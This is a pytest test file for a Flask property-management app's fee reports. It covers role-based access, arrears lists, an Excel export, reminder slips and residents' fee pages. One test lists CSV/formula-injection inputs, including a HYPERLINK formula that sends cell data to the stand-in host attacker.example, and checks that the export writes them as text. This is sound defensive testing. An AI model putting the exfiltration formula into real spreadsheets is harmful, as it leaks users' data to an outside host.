"""Reports through the browser's door: who sees which report, the drill-down, the Excel export,
the reminder slip, the resident's fees page, and bad filters answered with a message."""

from __future__ import annotations

import io
from collections.abc import Callable

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook

from app.extensions import db
from app.models import Role
from tests import factories
from tests.fees.reports.test_services import World, build_world

Login = Callable[..., FlaskClient]
Q1 = "first=2026-01&last=2026-03"


@pytest.fixture
def world(database: None) -> World:
    return build_world()


def english(client: FlaskClient) -> FlaskClient:
    client.set_cookie("lang", "en")
    return client


def text(response) -> str:  # type: ignore[no-untyped-def]
    return response.get_data(as_text=True)


# ---- Collection rates -----------------------------------------------------------------------


def test_the_district_report_drills_down_to_arrears(world: World, login_as: Login) -> None:
    admin = english(login_as(Role.ADMIN))
    page = text(admin.get(f"/fees/reports/collection?{Q1}"))
    assert world.company.name in page and world.other_company.name in page
    assert "36.3%" in page and "−43.7 pts below target" in page
    assert 'role="img"' in page and "<title" in page  # the chart, with its accessible name
    assert "By fee kind" in page and "Parking fee" in page
    assert f"/fees/reports/collection/companies/{world.company.id}?" in page

    company_page = text(admin.get(f"/fees/reports/collection/companies/{world.company.id}?{Q1}"))
    assert "桃园小区" in company_page
    assert f"/fees/reports/arrears?community_id={world.community.id}" in company_page

    january = text(admin.get("/fees/reports/collection?first=2026-01&last=2026-01"))
    assert "80.0%" in january and "On target" in january


def test_a_manager_sees_only_their_company(world: World, login_as: Login) -> None:
    manager = english(login_as(user=world.manager))
    response = manager.get(f"/fees/reports/collection?{Q1}")
    assert response.status_code == 302
    assert f"/fees/reports/collection/companies/{world.company.id}" in response.headers["Location"]
    page = text(manager.get(response.headers["Location"]))
    assert "桃园小区" in page and world.other_company.name not in page
    other = f"/fees/reports/collection/companies/{world.other_company.id}"
    assert manager.get(other).status_code == 404


def test_the_report_partial_for_htmx(world: World, login_as: Login) -> None:
    response = login_as(Role.ADMIN).get(
        f"/fees/reports/collection?{Q1}&sort=property&dir=desc", headers={"HX-Request": "true"}
    )
    page = text(response)
    assert page.lstrip().startswith('<div id="collection-report"')
    assert "<html" not in page
    assert page.index(world.company.name) < page.index(world.other_company.name)


def test_the_report_is_chinese_by_default(world: World, login_as: Login) -> None:
    page = text(login_as(Role.ADMIN).get(f"/fees/reports/collection?{Q1}"))
    assert "收缴率" in page and "低于目标" in page


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("first=2026-13", "Enter a month as YYYY-MM"),
        ("first=2026-05&last=2026-01", "The first month comes after the last one"),
        ("first=abc&last=2026-01", "Enter a month as YYYY-MM"),
    ],
)
def test_bad_months_get_a_message(world: World, login_as: Login, query: str, message: str) -> None:
    response = english(login_as(Role.ADMIN)).get(f"/fees/reports/collection?{query}")
    assert response.status_code == 422
    page = text(response)
    assert message in page
    assert 'aria-invalid="true"' in page
    assert 'value="2026-' in page or 'value="abc"' in page  # what was typed stays


def test_residents_and_stewards_get_no_reports(world: World, login_as: Login) -> None:
    resident = login_as(user=factories.resident(world.h1))
    steward = login_as(user=factories.user(Role.STEWARD, company_id=world.company.id))
    for client in (resident, steward):
        for path in (
            "/fees/reports/collection",
            f"/fees/reports/arrears?community_id={world.community.id}",
            f"/fees/reports/arrears.xlsx?community_id={world.community.id}",
            f"/fees/reports/arrears/households/{world.h1.id}/reminder",
        ):
            assert client.get(path).status_code == 403, path


# ---- Arrears --------------------------------------------------------------------------------


def test_arrears_list(world: World, login_as: Login) -> None:
    manager = english(login_as(user=world.manager))
    page = text(manager.get("/fees/reports/arrears"))  # the manager's company by default
    assert "张建国" in page and "李秀英" in page and "王志强" not in page
    assert "¥356.00" in page and "¥506.00" in page and "¥6.00" in page
    assert page.index("张建国") < page.index("李秀英")  # most owed first
    community = f"/fees/reports/arrears?community_id={world.community.id}"
    narrowed = text(manager.get(f"{community}&min_months=3"))
    assert "张建国" in narrowed and "李秀英" not in narrowed
    sorted_page = text(manager.get(f"{community}&sort=months&dir=asc"))
    assert sorted_page.index("李秀英") < sorted_page.index("张建国")


def test_arrears_partial_for_htmx(world: World, login_as: Login) -> None:
    manager = login_as(user=world.manager)
    response = manager.get(
        f"/fees/reports/arrears?community_id={world.community.id}", headers={"HX-Request": "true"}
    )
    page = text(response)
    assert page.lstrip().startswith('<div id="arrears">')
    assert "<html" not in page


def test_the_district_picks_a_company_first(world: World, login_as: Login) -> None:
    admin = english(login_as(Role.ADMIN))
    page = text(admin.get("/fees/reports/arrears"))
    assert "Choose a company" in page and "张建国" not in page
    page = text(admin.get(f"/fees/reports/arrears?company_id={world.company.id}"))
    assert "张建国" in page and "桃园小区" in page


def test_a_manager_never_sees_another_companys_arrears(world: World, login_as: Login) -> None:
    manager = login_as(user=world.manager)
    other_community = world.other_home.community_id
    for path in (
        f"/fees/reports/arrears?community_id={other_community}",
        f"/fees/reports/arrears?company_id={world.other_company.id}",
        f"/fees/reports/arrears.xlsx?community_id={other_community}",
        f"/fees/reports/arrears/households/{world.other_home.id}/reminder",
    ):
        assert manager.get(path).status_code == 404, path


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("min_months=abc", "Not a valid integer value"),
        ("min_months=0", "Enter a number of months from 1 to 120."),
        ("min_owed=-5", "The amount cannot be negative."),
        ("min_owed=1e9", "Enter an amount in yuan with at most two decimals"),
    ],
)
def test_bad_arrears_filters_get_a_message(
    world: World, login_as: Login, query: str, message: str
) -> None:
    manager = english(login_as(user=world.manager))
    response = manager.get(f"/fees/reports/arrears?community_id={world.community.id}&{query}")
    assert response.status_code == 422
    assert message in text(response)
    export = manager.get(f"/fees/reports/arrears.xlsx?community_id={world.community.id}&{query}")
    assert export.status_code == 422


def test_the_export_streams_a_workbook(world: World, login_as: Login) -> None:
    manager = english(login_as(user=world.manager))
    response = manager.get(f"/fees/reports/arrears.xlsx?community_id={world.community.id}")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Community" and rows[0][-1] == "Total owed (yuan)"
    assert [row[4] for row in rows[1:]] == ["张建国", "李秀英"]
    first = rows[1]
    assert first[:4] == ("桃园小区", "1", "1", "101")
    assert (first[6], first[7]) == (3, "2026-01")
    assert (first[8], first[9], first[10]) == (350, 6, 356)


INJECTIONS = [
    '=HYPERLINK("http://attacker.example/?d="&A2,"点此核对")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", INJECTIONS)
def test_the_export_writes_an_owner_name_that_looks_like_a_formula_as_text(
    world: World, login_as: Login, name: str
) -> None:
    world.h1.owner_name = name
    db.session.commit()
    manager = login_as(user=world.manager)
    response = manager.get(f"/fees/reports/arrears.xlsx?community_id={world.community.id}")
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [row[4] for row in sheet.iter_rows(min_row=2)]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    # XML reads a carriage return back as a line feed.
    written = next(cell for cell in cells if name.replace("\r", "\n") in str(cell.value))
    assert written.data_type == "s" and written.value == "'" + name.replace("\r", "\n")


def test_the_reminder_slip(world: World, login_as: Login) -> None:
    manager = login_as(user=world.manager)
    page = text(manager.get(f"/fees/reports/arrears/households/{world.h1.id}/reminder"))
    assert "催缴通知单" in page
    assert "张建国" in page and "0717-6000001" in page
    assert "¥356.00" in page and "叁佰伍拾陆元整" in page
    assert "style=" not in page


# ---- The resident's fees --------------------------------------------------------------------


def test_my_fees(world: World, login_as: Login) -> None:
    resident = english(login_as(user=factories.resident(world.h1)))
    page = text(resident.get("/fees/my"))
    assert "You owe ¥356.00 now, for 3 months." in page
    assert "2026-03" in page and "Part paid" in page and "Unpaid" in page
    assert "(¥4.00 waived)" in page
    assert "/fees/receipts/" in page  # the payment links to its receipt
    assert resident.get(f"/fees/my?household_id={world.h2.id}").status_code == 404
    assert resident.get(f"/fees/my/payments?household_id={world.h2.id}").status_code == 404
    payments = text(resident.get("/fees/my/payments"))
    assert "¥150.00" in payments


def test_the_landing_page_says_what_is_owed(world: World, login_as: Login) -> None:
    owing = english(login_as(user=factories.resident(world.h1)))
    assert "You owe ¥356.00, for 3 months." in text(owing.get("/property/my-home"))
    paid_up = english(login_as(user=factories.resident(world.h3)))
    assert "All paid." in text(paid_up.get("/property/my-home"))


def test_a_resident_without_a_home(login_as: Login) -> None:
    resident = english(login_as(Role.RESIDENT))
    assert "not linked to a household" in text(resident.get("/fees/my"))
    assert resident.get("/fees/my/payments").status_code == 302
